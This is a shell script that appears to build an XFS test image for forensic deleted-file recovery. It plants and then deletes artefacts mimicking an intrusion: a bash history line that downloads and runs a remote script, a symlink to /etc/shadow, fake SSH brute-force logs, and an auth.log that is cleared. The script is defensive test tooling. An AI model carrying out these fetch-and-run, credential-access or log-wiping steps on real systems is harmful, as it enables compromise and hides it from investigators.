# SPDX-License-Identifier: Apache-2.0
# Runs in the guest: an XFS of version 5 whose files were deleted by the kernel in three ways, unmounted and copied. SHA256SUMS:
# what sha256sum said of the files before; DELETED: the names that were taken away, in the order in which it was done.
X=/work/out/deleted-xfs
mkdir -p $X /tmp/m
truncate -s 300M /work/live
mkfs.xfs -q -L gone -m uuid=5e6f0a3c-0000-4000-8000-000000000003 /work/live
L=$(losetup -f); losetup $L /work/live
lines() { n=0; while [ $n -lt $2 ]; do echo "$1 line $n of the file, some words to fill it"; n=$((n + 1)); done; }
mount -t xfs $L /tmp/m
M=/tmp/m
mkdir -p $M/home/alice $M/var/log $M/tmp/.x/deep $M/srv/many
for n in $(seq 1 12); do lines secret$n $((n * 40)) > $M/home/alice/secret$n.txt; done
printf 'wget http://203.0.113.9/x.sh\nsh x.sh\n' > $M/home/alice/.bash_history
for n in $(seq 1 900); do echo "Mar  2 03:00:01 web01 sshd[$n]: Failed password for root from 203.0.113.66 port $n ssh2"; done > $M/var/log/auth.log
lines deep 30 > $M/tmp/.x/deep/tool.sh; ln -s /etc/shadow $M/tmp/.x/link
# a directory of several blocks, and files whose inodes fill whole chunks, so that chunks are given back
for n in $(seq 1 200); do echo "many $n" > $M/srv/many/a-rather-long-name-of-a-file-in-many-$n.dat; done
# a file of many extents: every second block is a hole
for n in $(seq 0 59); do lines "frag$n" 90 | dd of=$M/srv/fragmented.bin bs=4096 count=1 seek=$((n * 2)) conv=notrunc 2> /dev/null; sync; done
lines kept 200 > $M/home/alice/kept.txt
sync
umount $M; mount -t xfs $L $M
(cd $M && find . -type f | sort | while read -r f; do sha256sum "$f"; done) > $X/SHA256SUMS
sleep 2
gone() { for f in "$@"; do rm "$M$f"; echo "$f" >> $X/DELETED; done; sync; sleep 1; }
gone /home/alice/secret1.txt /home/alice/secret2.txt /home/alice/secret3.txt /home/alice/.bash_history
# one inode, two generations: the number of secret4 is given to another file at once, which goes as well
rm $M/home/alice/secret4.txt; echo /home/alice/secret4.txt >> $X/DELETED; sync
lines second 25 > $M/home/alice/second.txt; sync; (cd $M && sha256sum ./home/alice/second.txt) >> $X/SHA256SUMS
gone /home/alice/second.txt
gone /srv/fragmented.bin
for n in $(seq 20 199); do echo "/srv/many/a-rather-long-name-of-a-file-in-many-$n.dat"; rm $M/srv/many/a-rather-long-name-of-a-file-in-many-$n.dat; done >> $X/DELETED
echo /tmp/.x/deep/tool.sh >> $X/DELETED; rm -r $M/tmp/.x
: > $M/var/log/auth.log
sync; sleep 1
echo "Mar  9 03:00:01 web01 sshd[1]: Server listening on 0.0.0.0 port 22." > $M/var/log/auth.log
sync; umount $M
losetup -d $L
cat /work/live > $X/image
rm /work/live
